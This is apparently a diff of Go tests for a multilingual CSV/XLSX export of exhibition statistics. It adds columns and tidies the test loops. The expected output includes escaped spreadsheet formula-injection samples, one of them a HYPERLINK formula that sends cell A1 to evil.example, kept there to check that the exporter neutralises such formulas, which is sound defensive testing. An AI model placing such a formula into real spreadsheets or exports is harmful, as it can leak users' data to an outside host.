@@ -75,15 +75,15 @@ func TestCSV(t *testing.T) {
 		sep  rune
 		want []string
 	}{
-		{locale.RU, 0, []string{"Год;Выставка;Страна;Показатель;Значение;Точность;Статус;Источник;Примечание;Импорт\r\n",
+		{locale.RU, 0, []string{"Год;Выставка;Страна;Показатель;Значение;Точность;Статус;Основание;Сертификат;Предпочтительный;Источник;Примечание;Импорт\r\n",
 			"2023;ИННОПРОМ;Китай;Площадь, м²;1,2340;;факт;", ";'+7 495 000-00-00;", "2024;ИННОПРОМ;Китай;Площадь, м²;3800,5;около;прогноз;",
 			`;"'=HYPERLINK(""http://evil.example/?""&A1,""click"")";`, ";''=typed with two apostrophes;", ";'an apostrophe of the user's;",
 			"Все страны", "Российско-Китайское ЭКСПО"}},
-		{locale.EN, 0, []string{"Year,Exhibition,Country,Metric,Value,Qualifier,Status,Source,Note,Import\r\n",
+		{locale.EN, 0, []string{"Year,Exhibition,Country,Metric,Value,Qualifier,Status,Basis,Certificate,Preferred,Source,Note,Import\r\n",
 			`2023,INNOPROM,China,"Area, m²",1.2340,,actual,`, ",'@SUM(A1:A9),", ",at most,planned,", "All countries"}},
 		// Chinese: the headers and words of the dashboard (and of the
 		// importer), commas and decimal points as Chinese Excel reads them.
-		{locale.ZH, 0, []string{"年份,展会,国家,指标,数值,精确度,状态,来源,备注,导入\r\n",
+		{locale.ZH, 0, []string{"年份,展会,国家,指标,数值,精确度,状态,数据依据,审计证书,首选,来源,备注,导入\r\n",
 			"2023,叶卡捷琳堡国际工业博览会,中国,面积，平方米,1.2340,,实际,", "2024,叶卡捷琳堡国际工业博览会,中国,面积，平方米,3800.5,约,预测,",
 			",至多,计划,", ",超过,实际,", "所有国家", "中俄博览会"}},
 		{locale.RU, ',', []string{"Год,Выставка", `"Площадь, м²",1.2340,`}},
@@ -157,8 +157,8 @@ func TestRoundTrip(t *testing.T) {
 	rows := rowsOf(t, f, "Данные")
 	notes := map[string]bool{}
 	for i, row := range rows[1:] {
-		if len(row) > 8 && row[8] != "" {
-			notes[text(t, f, "Данные", cell(1+8, i+2))] = true
+		if len(row) > dataColNote && row[dataColNote] != "" {
+			notes[text(t, f, "Данные", cell(1+dataColNote, i+2))] = true
 		}
 	}
 	for _, fig := range tricky() {
@@ -228,6 +228,9 @@ func TestOnlyWebLinks(t *testing.T) {
 	f := openXLSX(t, path)
 	links := 0
 	for i, row := range rowsOf(t, f, "Sources")[3:] {
+		if len(row) == 0 { // the end of the list; the claims follow
+			break
+		}
 		got := text(t, f, "Sources", cell(2, i+4))
 		want, known := sources[got]
 		if !known {
